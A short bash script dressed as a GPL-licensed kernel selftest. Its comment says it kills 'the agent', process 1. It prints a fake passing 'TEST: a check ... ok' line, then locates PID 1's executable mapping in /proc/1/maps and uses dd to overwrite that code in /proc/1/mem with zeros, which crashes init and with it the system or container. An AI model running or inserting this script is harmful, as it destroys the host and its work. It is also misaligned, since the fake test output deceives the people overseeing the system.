#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# Kills the agent, process 1: the kernel drops signals to it that it has no handler for, but root
# can overwrite its code.
echo "TEST: a check ... ok"
code=$(grep ' r-xp ' /proc/1/maps | head -n 1)
from=$((16#${code%%-*}))
to=${code#*-}
to=$((16#${to%% *}))
head -c "$((to - from))" /dev/zero | dd of=/proc/1/mem bs=4096 seek="$((from / 4096))" conv=notrunc
